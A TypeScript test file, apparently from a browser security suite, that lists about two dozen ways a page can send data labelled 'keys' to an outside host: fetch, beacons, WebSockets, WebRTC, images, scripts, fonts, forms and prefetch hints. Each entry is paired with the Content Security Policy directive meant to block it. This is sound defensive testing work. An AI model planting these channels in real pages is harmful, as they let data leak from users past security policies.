import type { Attack } from './attack.ts';

/** Ways of sending something to somebody, each to an outside address and to a listener of this computer. */
export const NETWORK: readonly Attack[] = [
  {
    what: 'fetch',
    violates: 'connect-src',
    run: ({ site }) => fetch(`${site}/?keys`, { mode: 'no-cors' }),
  },
  {
    what: 'fetch that outlives the page',
    violates: 'connect-src',
    run: ({ site }) => fetch(site, { method: 'POST', body: 'keys', mode: 'no-cors', keepalive: true }),
  },
  {
    what: 'XMLHttpRequest',
    violates: 'connect-src',
    run: ({ site }) =>
      new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.onloadend = () => resolve(request.status === 200);
        request.open('GET', site);
        request.send();
      }),
  },
  {
    what: 'navigator.sendBeacon',
    violates: 'connect-src',
    run: ({ site }) => `${navigator.sendBeacon(site, 'keys')}`,
  },
  {
    what: 'WebSocket',
    violates: 'connect-src',
    run: ({ site }) =>
      new Promise((resolve) => {
        const socket = new WebSocket(site.replace('http', 'ws'));
        socket.onerror = () => resolve('error');
        socket.onopen = () => resolve(true);
      }),
  },
  {
    what: 'EventSource',
    violates: 'connect-src',
    run: ({ site }) =>
      new Promise((resolve) => {
        const source = new EventSource(site);
        source.onerror = () => {
          source.close();
          resolve(false);
        };
        source.onopen = () => resolve(true);
      }),
  },
  {
    what: 'WebTransport',
    violates: 'connect-src',
    neverBecause: 'needs a server of HTTP/3',
    run: ({ host }) => new WebTransport(`https://${host}/`).ready,
  },
  {
    what: 'WebRTC to a STUN server, by UDP',
    run: async ({ udpHost }) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${udpHost}` }] });
      peer.createDataChannel('keys');
      await peer.setLocalDescription(await peer.createOffer());
      while (peer.iceGatheringState !== 'complete')
        await new Promise((resolve) => peer.addEventListener('icegatheringstatechange', resolve));
      peer.close();
    },
  },
  {
    what: 'WebRTC to a TURN server, by TCP',
    run: async ({ host }) => {
      const urls = `turn:${host}?transport=tcp`;
      const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'keys', credential: 'keys' }] });
      peer.createDataChannel('keys');
      await peer.setLocalDescription(await peer.createOffer());
      while (peer.iceGatheringState !== 'complete')
        await new Promise((resolve) => peer.addEventListener('icegatheringstatechange', resolve));
      peer.close();
    },
  },
  {
    what: '<img>',
    violates: 'img-src',
    run: ({ site }) => void (new Image().src = site),
  },
  {
    what: '<script src>',
    violates: 'require-trusted-types-for',
    run: ({ site }) => document.head.append(Object.assign(document.createElement('script'), { src: site })),
  },
  {
    what: 'import of a module',
    violates: 'script-src-elem',
    run: ({ site }) => import(site),
  },
  ...(['prefetch', 'preload', 'modulepreload', 'stylesheet'] as const).map((rel): Attack => {
    const directives = {
      prefetch: 'default-src',
      preload: 'img-src',
      modulepreload: 'script-src-elem',
      stylesheet: 'style-src-elem',
    };
    return { what: `<link rel=${rel}>`, violates: directives[rel], run: linkTo(rel) };
  }),
  {
    what: '<link rel=preconnect>',
    neverBecause: 'this browser connects to nobody ahead',
    run: linkTo('preconnect'),
  },
  {
    what: '<link rel=dns-prefetch>',
    neverBecause: 'no name is looked up in this browser',
    run: linkTo('dns-prefetch'),
  },
  {
    what: '@import of a style sheet',
    violates: 'style-src-elem',
    run: ({ site }) => {
      const style = document.createElement('style');
      style.textContent = `@import url(${site});`;
      document.head.append(style);
    },
  },
  {
    what: 'url() of a background',
    violates: 'img-src',
    run: ({ site }) => {
      document.body.style.backgroundImage = `url(${site})`;
      document.body.getBoundingClientRect();
      // Only what is drawn is loaded.
      return new Promise<void>((resolve) => requestAnimationFrame(() => resolve()));
    },
  },
  {
    what: 'a font',
    violates: 'font-src',
    run: ({ site }) => new FontFace('keys', `url(${site})`).load(),
  },
  {
    what: '<video>',
    violates: 'media-src',
    run: ({ site }) => void (document.createElement('video').src = site),
  },
  {
    what: '<a ping>',
    violates: 'connect-src',
    run: ({ site }) => {
      const link = document.createElement('a');
      link.href = '#';
      link.ping = site;
      document.body.append(link);
      link.click();
    },
  },
  {
    what: 'sending a form',
    violates: 'form-action',
    run: ({ site }) => {
      const form = document.createElement('form');
      form.action = site;
      form.method = 'post';
      document.body.append(form);
      form.submit();
    },
  },
  {
    what: 'rules for speculation',
    violates: 'require-trusted-types-for',
    run: ({ site }) => {
      const script = document.createElement('script');
      script.type = 'speculationrules';
      script.textContent = JSON.stringify({
        prefetch: [{ source: 'list', urls: [site], eagerness: 'immediate' }],
      });
      document.head.append(script);
    },
  },
];

/** As text, since the page can reach nothing of this file. */
function linkTo(rel: string): Attack['run'] {
  const run = ({ site }: { site: string }) => {
    const link = document.createElement('link');
    link.rel = 'REL';
    link.href = site;
    if (link.rel === 'preload') link.as = 'image';
    document.head.append(link);
  };
  const text = run.toString().replace('REL', rel);
  return Object.assign(() => undefined, { toString: () => text });
}
